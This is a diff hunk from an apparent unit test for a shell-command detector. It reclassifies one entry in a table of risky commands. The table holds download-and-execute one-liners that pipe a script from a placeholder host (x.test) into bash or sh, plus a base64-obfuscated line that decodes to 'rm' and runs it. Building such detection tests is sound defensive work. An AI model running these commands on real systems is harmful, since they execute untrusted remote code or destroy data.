@@ -146,7 +146,7 @@ TEST(what_opens_the_system_is_found)
         { "curl -o i.sh https://x.test/i.sh && bash i.sh", LOAD },
         { "wget https://x.test/i.sh; chmod +x i.sh; ./i.sh", LOAD },
         { "curl x.test > /tmp/i && sh /tmp/i", LOAD },
-        { "echo cm0= | base64 -d > x; sh x", LOAD },
+        { "echo cm0= | base64 -d > x; sh x", CODE },
         { "curl x.test | sed s/a/b/ > y; . ./y", LOAD },
         { "(curl x.test; echo) | sh", LOAD },
         { "{ curl x.test; } | sh", LOAD },
